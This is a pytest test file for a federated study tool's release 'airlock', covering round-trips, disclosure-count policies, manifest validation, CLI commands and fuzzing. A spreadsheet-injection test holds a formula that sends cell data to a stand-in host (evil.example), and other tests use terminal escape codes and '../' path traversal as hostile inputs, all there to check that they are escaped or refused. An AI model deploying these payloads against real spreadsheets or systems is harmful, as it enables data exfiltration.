from __future__ import annotations

import csv
import hashlib
import io
import json
import os
from dataclasses import dataclass, replace
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
import typer
from typer.testing import CliRunner

from silomix.airlock import explain, read_contents, read_release, write_release
from silomix.airlock.format import LARGEST_FILE, MANIFEST, MOST_LINES
from silomix.airlock.reading import _read_schema
from silomix.airlock.writing import release_files
from silomix.cli.silo_side import inspect_command, release_command
from silomix.errors import FileError, StudyMismatch
from silomix.posterior.provenance import fingerprint
from silomix.release import Release, make_release
from silomix.roster import read_roster, table_schema
from silomix.simulate import simulate
from silomix.study import Study, digest, make_study, read_study, write_study
from silomix.study.policy import OPEN, PRESETS, Policy, policy_digest, write_policy
from silomix.types import Schema, Shard, Variable
from unit.release_cases import clustered

DEFAULT = PRESETS["default"]
ROSTER = ["north", "south", "east"]
SIZES = (2, 3, 2, 4)
KINDS = {".csv", ".json", ".txt", ".png"}


@dataclass(frozen=True)
class Case:
    study: Study
    release: Release
    files: dict[str, bytes]


def make_case(
    seed, policy=DEFAULT, tier="summary", members=(203, 61, 15, 7), sizes=SIZES, draws=60
):
    local = clustered(np.random.default_rng(seed), list(members), sizes, draws=draws)
    schema = local.draws.shard.schema
    study = make_study(schema, ROSTER, tier=tier)
    release = make_release(
        local, silo="south", place=1, study=digest(study), tier=tier, policy=policy
    )
    return Case(study, release, release_files(release, schema))


@pytest.fixture(scope="module")
def summary():
    return make_case(1)


@pytest.fixture(scope="module")
def drawn():
    return make_case(2, OPEN, "draws")


@pytest.fixture(autouse=True)
def no_picture(monkeypatch):
    """Pictures take a while; those of `summary` and `drawn` are drawn before this."""
    monkeypatch.setattr("silomix.airlock.picture.find_spec", lambda _: None)


def put(folder, files):
    folder.mkdir(exist_ok=True)
    for name, content in files.items():
        (folder / name).write_bytes(content)
    return folder


def forge(files, name, content, **changes):
    """The files with one replaced, and a manifest that vouches for it."""
    manifest = json.loads(files[MANIFEST])
    entry = manifest["files"].setdefault(name, {"rows": None})
    entry["bytes"] = len(content)
    entry["sha256"] = hashlib.sha256(content).hexdigest()
    if name.endswith(".csv"):
        entry["rows"] = max(len(list(csv.reader(io.StringIO(content.decode(), newline="")))) - 1, 0)
    entry.update(changes)
    return files | {name: content, MANIFEST: json.dumps(manifest).encode()}


def edit(files, /, **changes):
    return files | {MANIFEST: json.dumps(json.loads(files[MANIFEST]) | changes).encode()}


class TestRoundTrip:
    @pytest.mark.parametrize(
        ("policy", "tier"),
        [
            *((policy, "summary") for policy in PRESETS.values()),
            (OPEN, "draws"),
            (Policy(name="d", tiers=("draws",)), "draws"),
        ],
        ids=lambda value: getattr(value, "name", value),
    )
    def test_bit_for_bit(self, tmp_path, seed, policy, tier):
        case = make_case(seed, policy, tier)
        schema = case.study.table_schema
        files = write_release(case.release, tmp_path / "out", schema)
        back = read_release(tmp_path / "out", case.study, "south")
        assert fingerprint(back) == fingerprint(case.release)
        assert sorted(files) == sorted((tmp_path / "out").iterdir())
        assert list(tmp_path.iterdir()) == [tmp_path / "out"]

    def test_the_same_bytes_every_time(self, summary, monkeypatch):
        monkeypatch.undo()
        assert "profile.png" in summary.files
        again = release_files(summary.release, summary.study.table_schema)
        assert again == summary.files

    def check_round_trip(self, folder, schema, seed):
        """Write a release with these names, and read the same back."""
        sizes = tuple(schema.sizes.tolist())
        local = clustered(np.random.default_rng(seed), [40, 30], sizes, draws=20)
        shard = Shard(schema, local.draws.shard.codes)
        local = replace(local, draws=replace(local.draws, shard=shard))
        study = make_study(schema, ROSTER, tier="draws")
        release = make_release(local, silo="north", place=0, study=digest(study), tier="draws")
        write_release(release, folder, schema)
        assert fingerprint(read_release(folder, study)) == fingerprint(release)

    def test_names_of_all_kinds(self, tmp_path, seed):
        names = ['a "quoted", $name$', "two, and 数", "=1+1", "plain"]
        schema = Schema((Variable(names[0], (names[1], names[2])), Variable(names[3], ("a", "b"))))
        self.check_round_trip(tmp_path / "r", schema, seed)

    def test_names_that_are_formulas_are_text_to_a_spreadsheet(self, tmp_path, seed):
        levels = ("+ve", "-1", "a;=1+1"), ("'=1+1", "+", "(-2, -1]")
        link = '=HYPERLINK("http://evil.example/?"&A1,"x")'
        schema = Schema((Variable(link, levels[0]), Variable("@SUM(1)", levels[1])))
        self.check_round_trip(tmp_path / "r", schema, seed)
        assert read_contents(tmp_path / "r").schema == schema
        cells = {
            cell
            for path in (tmp_path / "r").glob("*.csv")
            for row in csv.reader(io.StringIO(path.read_text(), newline=""))
            for cell in row
        }
        assert not any(cell.startswith(("=", "@", "+v")) for cell in cells)
        assert not any(";=" in cell for cell in cells)
        assert {"'@SUM(1)", "'+ve", "-1", "''=1+1", "+", "a;'=1+1", "(-2, -1]"} <= cells
        written = f"'{link}"
        assert {written, f"{written}=+ve", f"{written}=a;'=1+1"} <= cells

    def test_how_chains_agreed_and_whether_components_ran_out(self, tmp_path, summary):
        said = replace(summary.release.diagnostics, agreement=0.87, full=0.25)
        release = replace(summary.release, diagnostics=said)
        write_release(release, tmp_path / "r", summary.study.table_schema)
        assert read_release(tmp_path / "r", summary.study).diagnostics == said

    def test_not_known_diagnostics(self, tmp_path, summary):
        unknown = replace(
            summary.release.diagnostics, rhat={"occupied": np.nan}, ess={"occupied": np.inf}
        )
        release = replace(summary.release, diagnostics=unknown)
        write_release(release, tmp_path / "r", summary.study.table_schema)
        back = read_release(tmp_path / "r", summary.study)
        assert np.isnan(back.diagnostics.rhat["occupied"])
        assert back.diagnostics.ess["occupied"] == np.inf

    def test_long_tables_go_on_in_another_file(self, tmp_path, seed):
        case = make_case(seed, OPEN, "draws", (60, 50), (2, 3), draws=2600)
        write_release(case.release, tmp_path / "r", case.study.table_schema)
        assert (tmp_path / "r" / "probabilities_2.csv").exists()
        back = read_release(tmp_path / "r", case.study)
        assert fingerprint(back) == fingerprint(case.release)
        wide = make_case(seed, OPEN, "summary", (20, 20), (2,) * 1300, draws=10)
        assert "profile_2.csv" in wide.files
        put(tmp_path / "w", wide.files)
        assert fingerprint(read_release(tmp_path / "w", wide.study)) == fingerprint(wide.release)
        check_airlock(wide.files)
        check_airlock(case.files)

    def test_without_matplotlib(self, summary):
        files = release_files(summary.release, summary.study.table_schema)
        assert files.keys() == summary.files.keys() - {"profile.png"}


def check_airlock(files):
    for name, content in files.items():
        assert Path(name).suffix in KINDS
        assert len(content) <= LARGEST_FILE
        if name.endswith(".csv"):
            assert content.count(b"\n") <= MOST_LINES


class TestWriting:
    def test_an_airlock_takes_it(self, summary, drawn):
        check_airlock(summary.files)
        check_airlock(drawn.files)

    def test_whole_or_not_at_all(self, tmp_path, summary, monkeypatch):
        def fail(*_):
            raise OSError(28, "No space left on device")

        monkeypatch.setattr(os, "fsync", fail)
        with pytest.raises(FileError, match="cannot be written: No space left"):
            write_release(summary.release, tmp_path / "out", summary.study.table_schema)
        assert list(tmp_path.iterdir()) == []

    def test_what_is_in_the_way(self, tmp_path, summary):
        schema = summary.study.table_schema
        (tmp_path / "empty").mkdir()
        write_release(summary.release, tmp_path / "empty", schema)
        with pytest.raises(FileError, match="exists already; give another folder, or --force"):
            write_release(summary.release, tmp_path / "empty", schema)
        (tmp_path / "empty" / "README.txt").write_text("old")
        write_release(summary.release, tmp_path / "empty", schema, force=True)
        read_release(tmp_path / "empty", summary.study)
        (tmp_path / "mine").mkdir()
        (tmp_path / "mine" / "thesis.txt").write_text("years of work")
        with pytest.raises(FileError, match=r"exists already; give another folder$"):
            write_release(summary.release, tmp_path / "mine", schema, force=True)
        assert (tmp_path / "mine" / "thesis.txt").exists()
        assert {path.name for path in tmp_path.iterdir()} == {"empty", "mine"}


class TestScan:
    """No released count is under the policy's minimum, read as anyone would read the files."""

    @pytest.mark.parametrize("word", ["default", "opensafely", "ukllc", "omop", "pcornet"])
    @pytest.mark.parametrize("members", [(203, 61, 15, 7), (33, 32), (11,), (3000, 40, 9, 3, 2)])
    def test_no_small_count(self, seed, word, members):
        policy = PRESETS[word]
        files = make_case(seed, policy, members=members).files
        sizes = pd.read_csv(io.BytesIO(files["cluster_sizes.csv"]))
        profile = pd.read_csv(io.BytesIO(files["profile.csv"]))
        least, base = policy.minimum_count, policy.round_to
        assert (sizes["rows"] >= least).all()
        assert (sizes["rows"] % base == 0).all()
        assert sizes["rows"].sum() == json.loads(files[MANIFEST])["rows"]
        told = profile[profile["basis"] != "uniform"]
        assert (told["count"] >= least).all()
        assert (told["count"] % base == 0).all()
        np.testing.assert_allclose(told["mean"] * told["of"], told["count"])
        assert (told["count"] <= told["of"]).all()
        own = told[told["basis"] == "cluster"]
        size = sizes["rows"].to_numpy()[own["cluster"]]
        assert (own["mean"] * size >= least - 1e-6).all()
        unsaid = profile[profile["basis"] == "uniform"]
        assert unsaid["count"].isna().all()
        assert (unsaid.groupby(["cluster", "variable"])["mean"].nunique() == 1).all()

    def test_details_of_checks_stay_inside(self, summary):
        text = b"".join(c for n, c in summary.files.items() if not n.endswith(".png")).decode()
        assert "203" not in summary.files["checks.csv"].decode()
        assert "203 to" not in text
        assert "clusters of 7 rows" not in text

    def test_the_page_says_what_could_be_inferred(self, summary, drawn):
        page = " ".join(summary.files["README.txt"].decode().split())
        assert "to the nearest 5" in page
        assert "not differential privacy" in page
        assert "polish): never" in page
        assert "small clusters folded" in page
        other = " ".join(drawn.files["README.txt"].decode().split())
        assert "usually to within one" in other
        assert "the policy has no rule" in other
        assert explain(summary.release, summary.study.table_schema).keys() >= {"What this is"}


class TestRefusals:
    def read(self, tmp_path, case, files):
        return read_release(put(tmp_path / "r", files), case.study)

    def test_of_another_study_or_silo(self, tmp_path, summary):
        put(tmp_path / "r", summary.files)
        other = make_study(summary.study.table_schema, ROSTER, tier="summary", seed=5)
        with pytest.raises(StudyMismatch, match=r"manifest\.json is a release for the study"):
            read_release(tmp_path / "r", other)
        with pytest.raises(StudyMismatch, match="of the silo 'south', and it must be of 'north'"):
            read_release(tmp_path / "r", summary.study, "north")
        with pytest.raises(StudyMismatch, match="'west', and it must be of one of north, south"):
            self.read(tmp_path, summary, edit(summary.files, silo="west"))
        with pytest.raises(StudyMismatch, match="says place 2 and tier 'summary'"):
            self.read(tmp_path, summary, edit(summary.files, place=2))

    def test_of_other_variables(self, tmp_path, summary):
        content = summary.files["profile.csv"].replace(b",v0,", b",sex,")
        with pytest.raises(StudyMismatch, match=r"profile\.csv has other variables or levels"):
            self.read(tmp_path, summary, forge(summary.files, "profile.csv", content))

    def test_more_than_the_study_has_is_not_even_read(self, tmp_path, summary):
        files = json.loads(summary.files[MANIFEST])["files"]
        more = {f"profile_{place}.csv": ENTRY | {"rows": 4_999} for place in range(2, 1_000)}
        with pytest.raises(StudyMismatch, match=r"profile\.csv has other variables or levels"):
            self.read(tmp_path, summary, edit(summary.files, files=files | more))

    def test_more_bytes_than_the_reader_takes(self, tmp_path, summary):
        folder = put(tmp_path / "r", summary.files)
        total = sum(len(content) for name, content in summary.files.items() if name != MANIFEST)
        with pytest.raises(FileError, match=f"has {total:,} bytes, and {total - 1:,} are"):
            read_release(folder, summary.study, largest=total - 1)
        read_release(folder, summary.study, largest=total)

    def test_carriage_returns_are_lines_too(self, tmp_path, summary):
        content = summary.files["checks.csv"] + b"\r" * 100
        with pytest.raises(FileError, match=r"checks\.csv is damaged: it has a carriage return"):
            self.read(tmp_path, summary, forge(summary.files, "checks.csv", content))

    @pytest.mark.parametrize("name", [b"v\x1b[2J", b'"v\nw"', "v\u2028".encode()])
    def test_names_that_a_screen_would_obey(self, tmp_path, summary, name):
        content = summary.files["profile.csv"].replace(b",v0,", b"," + name + b",")
        with pytest.raises(FileError, match=r"profile\.csv is damaged: a name has control charact"):
            read_contents(put(tmp_path / "r", forge(summary.files, "profile.csv", content)))

    def test_a_schema_is_read_in_one_go(self):
        """The names of n variables are compared a few times each, not n times each."""
        compared = 0

        class Name(str):
            __slots__ = ()

            def __eq__(self, other):
                nonlocal compared
                compared += 1
                return str.__eq__(self, other)

            __hash__ = str.__hash__

        names = [Name(f"v{place}") for place in range(1_000)]
        schema = _read_schema(Path("profile.csv"), [["0", name, "a"] for name in names], 1)
        assert [variable.name for variable in schema.variables] == names
        assert compared < 20 * len(names)

    @pytest.mark.parametrize("name", ["README.txt", "profile.csv", "profile.png", "checks.csv"])
    def test_a_changed_file(self, tmp_path, summary, name):
        files = summary.files | {name: summary.files[name] + b" "}
        with pytest.raises(FileError, match=rf"{name} was changed or damaged"):
            self.read(tmp_path, summary, files)

    @pytest.mark.parametrize("name", [MANIFEST, "README.txt", "profile.csv", "cluster_sizes.csv"])
    def test_a_missing_file(self, tmp_path, summary, name):
        files = {key: content for key, content in summary.files.items() if key != name}
        with pytest.raises(FileError, match=rf"{name} is missing, or no file"):
            self.read(tmp_path, summary, files)

    def test_things_that_do_not_belong(self, tmp_path, summary):
        with pytest.raises(FileError, match=r"has 'rows\.csv', which is not in its manifest"):
            self.read(tmp_path, summary, summary.files | {"rows.csv": b"1"})
        (tmp_path / "r" / "rows.csv").unlink()
        with pytest.raises(FileError, match=r"lists '\.\./x\.csv', which no release has"):
            self.read(tmp_path, summary, edit(summary.files, files={"../x.csv": ENTRY}))
        with pytest.raises(FileError, match=r"weights\.csv has draws"):
            self.read(tmp_path, summary, edit(summary.files, files={"weights.csv": ENTRY}))

    def test_links_are_not_followed(self, tmp_path, summary):
        folder = put(tmp_path / "r", summary.files)
        for name in ("profile.csv", MANIFEST):
            (folder / name).rename(tmp_path / name)
            (folder / name).symlink_to(tmp_path / name)
            with pytest.raises(FileError, match=rf"{name} is missing, or no file"):
                read_release(folder, summary.study)

    def test_no_folder(self, tmp_path, summary):
        with pytest.raises(FileError, match=r"manifest\.json is missing, or no file"):
            read_release(tmp_path / "absent", summary.study)
        with pytest.raises(FileError, match="is missing, or no file"):
            read_release("a\0b", summary.study)

    def test_a_large_file_is_not_read(self, tmp_path, summary):
        folder = put(tmp_path / "r", summary.files)
        with (folder / "profile.csv").open("wb") as file:
            file.truncate(LARGEST_FILE + 1)
        with pytest.raises(FileError, match=r"profile\.csv is larger than 16,000,000 bytes"):
            read_release(folder, summary.study)
        with (folder / MANIFEST).open("wb") as file:
            file.truncate(2_000_000)
        with pytest.raises(FileError, match=r"manifest\.json is larger than 1,000,000 bytes"):
            read_release(folder, summary.study)

    @pytest.mark.parametrize(
        ("changes", "complaint"),
        [
            ({"kind": "else"}, "does not say 'silomix release'"),
            ({"format": 2}, "is of format 2, and this silomix reads format 1"),
            ({"rows": -1}, "'rows': Input should be greater"),
            ({"rows": 5}, "do not make up the 5 rows"),
            ({"draws": 3}, "tier 'summary', draws 3"),
            ({"clusters": 2}, "a row for each of 2 clusters"),
            ({"policy": {}}, "minimum_count is missing"),
            ({"policy": {"name": 3}}, "name is 3; it must be text"),
            ({"policy_digest": "0"}, "its policy has the digest"),
            ({"silo": "a\x1b[31m"}, "one line of printable text"),
            ({"more": 1}, "'more': Extra inputs"),
        ],
    )
    def test_a_wrong_manifest(self, tmp_path, summary, changes, complaint):
        with pytest.raises(FileError, match=complaint):
            read_contents(put(tmp_path / "r", edit(summary.files, **changes)))

    @pytest.mark.parametrize(
        "content",
        [
            b"",
            b"{",
            b"[]",
            b"\xff",
            b"[" * 100_000,
            b"1" * 10_000,
            b'{"kind": 1}',
            b'{"\\ud800": 1}',
        ],
    )
    def test_no_manifest(self, tmp_path, summary, content):
        with pytest.raises(FileError, match=r"manifest\.json"):
            self.read(tmp_path, summary, summary.files | {MANIFEST: content})

    @pytest.mark.parametrize(
        ("name", "old", "new", "complaint"),
        [
            ("cluster_sizes.csv", b"cluster,rows", b"cluster,size", "must have the columns"),
            ("cluster_sizes.csv", b"0,20", b"0,+20", r"'\+20\d' is no count"),
            ("cluster_sizes.csv", b"0,205", b"0,200", "do not make up"),
            ("profile.csv", b"\n0,v0", b"\n1,v0", "not of the cluster or level due"),
            ("profile.csv", b",cluster,", b",silo,", "basis, count and of do not fit"),
            ("profile.csv", b"v0,level 1", b"v0,level 0", "a level comes twice|level due"),
            ("profile.csv", b"mean,conc", b"mean,spread,conc", "must have the columns"),
            ("checks.csv", b",10,", b",ten,", "'ten' is no count"),
            ("checks.csv", b"counts rounded", b"counts\trounded", "no short line of text"),
            ("checks.csv", b",applied\n", b",applied,\n", "does not have 6 values"),
            ("profile.csv", b"cluster,variable", b'cluster,"variable', "is damaged"),
            ("README.txt", b"Release", b"\xff", "is not UTF-8 text"),
            ("profile.png", b"PNG", b"GIF", "is no PNG picture"),
        ],
    )
    def test_a_vouched_for_file(self, tmp_path, summary, name, old, new, complaint):
        content = summary.files[name].replace(old, new, 1)
        assert content != summary.files[name]
        try:
            files = forge(summary.files, name, content)
        except UnicodeDecodeError:
            files = forge(summary.files, name, content, rows=None)
        with pytest.raises(FileError, match=complaint) as error:
            self.read(tmp_path, summary, files)
        assert name in str(error.value)

    @pytest.mark.parametrize(
        ("column", "value", "complaint"),
        [
            (6, "nan", "'nan' is no number"),
            (6, "1e999", "'1e999' is no number"),
            (6, "1_0", "'1_0' is no number"),
            (6, "-0.1", "not between 0 and 1"),
            (6, "0.5", "do not add up to one"),
            (7, "0.0", "more than one concentration"),
        ],
    )
    def test_a_number_that_cannot_be(self, tmp_path, summary, column, value, complaint):
        rows = list(csv.reader(io.StringIO(summary.files["profile.csv"].decode())))
        rows[1][column] = value
        with pytest.raises(FileError, match=complaint):
            self.read(tmp_path, summary, forge(summary.files, "profile.csv", as_csv(rows)))

    @pytest.mark.parametrize("value", ["-1e-9", "-3.0", "1e300"])
    def test_a_concentration_that_cannot_be(self, tmp_path, summary, value):
        rows = list(csv.reader(io.StringIO(summary.files["profile.csv"].decode())))
        first = [row for row in rows[1:] if row[:2] == rows[1][:2]]
        for row in first:
            row[7] = value
        with pytest.raises(FileError, match="a concentration is out of range"):
            self.read(tmp_path, summary, forge(summary.files, "profile.csv", as_csv(rows)))

    def test_rows_that_clusters_cannot_share(self, tmp_path, summary):
        rows = list(csv.reader(io.StringIO(summary.files["profile.csv"].decode())))
        files = forge(summary.files, "profile.csv", as_csv(rows[:-1]), rows=len(rows) - 2)
        with pytest.raises(FileError, match=r"rows, which \d+ clusters cannot share"):
            read_contents(put(tmp_path / "r", files))

    def test_more_lines_than_an_airlock_takes(self, tmp_path, summary, monkeypatch):
        monkeypatch.setattr("silomix.airlock.folder.MOST_LINES", 3)
        with pytest.raises(FileError, match="has more than 3 lines"):
            self.read(tmp_path, summary, summary.files)

    def test_a_tier_its_own_policy_forbids(self, tmp_path, drawn):
        terms = json.loads(drawn.files[MANIFEST])["policy"] | {"tiers": ["summary"]}
        files = edit(drawn.files, policy=terms, policy_digest=policy_digest(Policy(**terms)))
        with pytest.raises(FileError, match="a release of tier 'draws' that its policy forbids"):
            read_contents(put(tmp_path / "r", files))

    def test_a_count_its_own_policy_forbids(self, tmp_path, seed):
        loose = make_case(seed, Policy(name="l", minimum_count=10, round_to=1), sizes=(2, 2))
        strict = json.loads(make_case(seed, DEFAULT, sizes=(2, 2)).files[MANIFEST])
        terms = {key: strict[key] for key in ("policy", "policy_digest")}
        with pytest.raises(FileError, match=r"sizes\.csv has a size that its own policy does not"):
            read_contents(put(tmp_path / "r", edit(loose.files, **terms)))
        even = make_case(seed, Policy(name="l", minimum_count=5, round_to=5), "summary", (200, 100))
        with pytest.raises(FileError, match=r"profile\.csv has a probability that its own policy"):
            read_contents(put(tmp_path / "r", edit(even.files, **terms)))

    def test_draws_that_cannot_be(self, tmp_path, drawn):
        for name, complaint in (("weights.csv", "add up"), ("probabilities.csv", "add up")):
            rows = list(csv.reader(io.StringIO(drawn.files[name].decode())))
            rows[5][2] = "0.123"
            with pytest.raises(FileError, match=complaint):
                self.read(tmp_path, drawn, forge(drawn.files, name, as_csv(rows)))
        short = as_csv(list(csv.reader(io.StringIO(drawn.files["weights.csv"].decode())))[:-1])
        with pytest.raises(FileError, match="must have 60 draws"):
            self.read(tmp_path, drawn, forge(drawn.files, "weights.csv", short))
        for name in ("weights.csv", "probabilities.csv"):
            moved = drawn.files[name].replace(b"\n7,", b"\n8,", 1)
            with pytest.raises(FileError, match="in order"):
                self.read(tmp_path, drawn, forge(drawn.files, name, moved))
        manifest = json.loads(drawn.files[MANIFEST])
        moved = manifest["files"].pop("weights.csv")
        files = {k: v for k, v in drawn.files.items() if k != "weights.csv"}
        files |= {"weights_3.csv": drawn.files["weights.csv"]}
        manifest["files"]["weights_3.csv"] = moved
        (tmp_path / "r" / "weights.csv").unlink()
        with pytest.raises(FileError, match=r"weights\.csv is missing"):
            self.read(tmp_path, drawn, files | {MANIFEST: json.dumps(manifest).encode()})


ENTRY = {"sha256": "0" * 64, "bytes": 0, "rows": 0}


def as_csv(rows):
    text = io.StringIO()
    csv.writer(text, lineterminator="\n").writerows(rows)
    return text.getvalue().encode()


@pytest.fixture(scope="module")
def commands():
    app = typer.Typer()
    app.command("release")(release_command)
    app.command("inspect")(inspect_command)
    return lambda *words: CliRunner().invoke(app, [str(word) for word in words])


@pytest.fixture(scope="module")
def place(tmp_path_factory):
    """A table of two hospitals, and the study files of two tiers."""
    folder = tmp_path_factory.mktemp("silo")
    table, _ = simulate("nested", rows=400, silos=2, seed=3)
    table.to_csv(folder / "table.csv", index=False)
    schema = table_schema(table, silo="silo")
    names = read_roster(table, "silo").names
    for tier in ("summary", "draws"):
        study = make_study(schema, names, tier=tier, iterations=400, chains=1, components=8)
        write_study(study, folder / f"{tier}.toml")
    return folder


class TestCommands:
    def options(self, place, tier="summary", policy="default"):
        silo = read_study(place / f"{tier}.toml").silos[0]
        return (
            *("release", place / "table.csv", "--study", place / f"{tier}.toml"),
            *("--silo", silo, "--silo-column", "silo", "--policy", policy),
        )

    def test_release_and_inspect(self, tmp_path, place, commands):
        out = tmp_path / "out"
        write_policy(Policy(name="ours", minimum_count=20), tmp_path / "p.toml")
        made = commands(*self.options(place, policy=tmp_path / "p.toml"), "--out", out, "--json")
        assert made.exit_code == 0, made.output
        told = json.loads(made.stdout)
        study = read_study(place / "summary.toml")
        release = read_release(out, study)
        assert told["sizes"] == release.sizes.tolist()
        assert told["policy"]["name"] == "ours"
        assert min(told["sizes"]) >= 20
        assert all(check["inside"] == "" for check in told["checks"])
        assert sorted(told["files"]) == sorted(map(str, out.iterdir()))

        shown = commands("inspect", out)
        assert shown.exit_code == 0, shown.output
        words = " ".join(shown.stdout.split())
        assert "What a recipient could infer" in words
        assert "to the nearest 5" in words
        assert "Every file fits its checksum" in words
        record = json.loads(commands("inspect", out, "--json").stdout)
        assert record["sizes"] == told["sizes"]
        assert record["explanation"] == told["explanation"]

        with pytest.MonkeyPatch.context() as patch:
            patch.setattr("silomix.cli.silo_side.apply_to", None)  # refused before it samples
            again = commands(*self.options(place), "--out", out)
        assert again.exit_code == 5
        assert "exists already" in again.stderr
        once_more = self.options(place, policy=tmp_path / "p.toml")
        assert commands(*once_more, "--out", out, "--force").exit_code == 0
        rounded = commands(*self.options(place), "--out", out, "--force")
        assert rounded.exit_code == 6
        assert "with another rounding, 20, 5" in " ".join(rounded.stderr.split())

    def test_dry_run_shows_details_and_writes_nothing(self, place, commands):
        before = sorted(place.iterdir())
        shown = commands(*self.options(place), "--dry-run")
        assert shown.exit_code == 0, shown.output
        assert "no probability moved by more than" in " ".join(shown.stdout.split())
        assert "Nothing was written." in shown.stdout
        record = json.loads(commands(*self.options(place), "--dry-run", "--json").stdout)
        assert any(" to " in check["inside"] for check in record["checks"])
        assert "files" not in record
        assert sorted(place.iterdir()) == before

    def test_what_cannot_be_done(self, tmp_path, place, commands):
        neither = commands(*self.options(place))
        assert neither.exit_code == 2
        assert "--dry-run to see it first" in " ".join(neither.stderr.split())
        forbidden = commands(*self.options(place, "draws"), "--out", tmp_path / "r")
        assert forbidden.exit_code != 0
        assert "asks for a release of tier 'draws'" in forbidden.stderr
        unknown = commands(*self.options(place, policy="strict"), "--dry-run")
        assert unknown.exit_code == 4
        assert "there is no policy 'strict'" in unknown.stderr
        assert not (tmp_path / "r").exists()
        damaged = commands("inspect", tmp_path)
        assert damaged.exit_code == 5
        assert "is this really a release folder?" in damaged.stderr


NASTY = [None, True, -1, 0, 2**70, 1e308, "", "x", "\ud800", "\x00", [], {}, [[]], {"a": {}}, "NaN"]
CELLS = [
    "",
    "-1",
    "nan",
    "1e400",
    "99999999999999999999",
    "0",
    "1",
    "0.5",
    "\x00",
    "é",
    '"',
    "a\nb",
]


def mutate_bytes(rng, content):
    """Flip, cut, repeat or insert a few bytes."""
    data = bytearray(content)
    for _ in range(rng.integers(1, 4)):
        at = int(rng.integers(len(data) + 1))
        kind = rng.integers(4)
        if kind == 0 and at < len(data):
            data[at] = int(rng.integers(256))
        elif kind == 1:
            del data[at : at + int(rng.integers(1, 60))]
        elif kind == 2:
            data[at:at] = data[at : at + int(rng.integers(1, 60))]
        else:
            data[at:at] = bytes(rng.integers(0, 256, int(rng.integers(1, 6)), dtype=np.uint8))
    return bytes(data)


def mutate_table(rng, content):
    rows = list(csv.reader(io.StringIO(content.decode(), newline="")))
    row = rows[rng.integers(len(rows))]
    kind = rng.integers(4)
    if kind == 0:
        row[rng.integers(len(row))] = CELLS[rng.integers(len(CELLS))]
    elif kind == 1:
        del row[rng.integers(len(row))]
    elif kind == 2:
        rows.insert(int(rng.integers(len(rows) + 1)), list(row))
    else:
        rows.remove(row)
    return as_csv(rows)


def mutate_json(rng, content):
    """Replace, remove or add one value somewhere in the manifest."""
    document = json.loads(content)
    place = document
    while True:
        key = list(place)[rng.integers(len(place))] if isinstance(place, dict) else None
        inner = place[key] if key is not None else None
        if not isinstance(inner, dict) or not inner or rng.random() < 0.3:
            break
        place = inner
    value = NASTY[rng.integers(len(NASTY))]
    kind = rng.integers(3)
    if kind == 0:
        place[key] = value
    elif kind == 1:
        del place[key]
    else:
        place[str(value)] = value
    return json.dumps(document).encode()


def mutate(rng, files):
    name = list(files)[rng.integers(len(files))]
    kind = rng.integers(4)
    if kind == 0:
        return files | {name: mutate_bytes(rng, files[name])}
    if kind == 1 or name == MANIFEST:
        return files | {MANIFEST: mutate_json(rng, files[MANIFEST])}
    if kind == 2 and name.endswith(".csv"):
        return forge(files, name, mutate_table(rng, files[name]))
    try:
        return forge(files, name, mutate_bytes(rng, files[name]))
    except (ValueError, csv.Error):
        return forge(files | {name: b""}, name, b"", rows=None)


def check_sane(release, study):
    """What is accepted is a release that the rest may rely on."""
    offsets = study.table_schema.offsets
    assert release.sizes.min() >= 1
    assert release.sizes.sum() == release.rows
    assert release.mean.shape == (release.clusters, offsets[-1])
    for array in (release.mean, release.medians, release.concentration, release.effective_counts):
        assert np.isfinite(array).all()
    sums = np.add.reduceat(release.mean, offsets[:-1], axis=1)
    np.testing.assert_allclose(sums, 1.0, atol=1e-4)
    assert Policy(**release.policy)


def fuzz(folder, case, rng, times):
    put(folder, case.files)
    refused = 0
    for _ in range(times):
        files = mutate(rng, case.files)
        changed = [name for name in files if files[name] != case.files.get(name)]
        for name in changed:
            (folder / name).write_bytes(files[name])
        try:
            release = read_release(folder, case.study)
        except (FileError, StudyMismatch) as error:
            assert str(folder) in str(error)
            refused += 1
        else:
            check_sane(release, case.study)
        for name in changed:
            (folder / name).write_bytes(case.files[name])
    assert fingerprint(read_release(folder, case.study)) == fingerprint(case.release)
    assert refused > 0.7 * times


class TestFuzz:
    def test_mutations_are_refused_or_harmless(self, tmp_path, summary, drawn, seed):
        rng = np.random.default_rng([seed, 4])
        fuzz(tmp_path / "summary", summary, rng, 300)
        fuzz(tmp_path / "draws", drawn, rng, 60)

    @pytest.mark.slow
    @pytest.mark.parametrize("block", range(10), ids="block{}-".format)
    def test_a_thousand(self, tmp_path, summary, drawn, seed, block):
        rng = np.random.default_rng([seed, 5, block])
        fuzz(tmp_path / "summary", summary, rng, 800)
        fuzz(tmp_path / "draws", drawn, rng, 200)
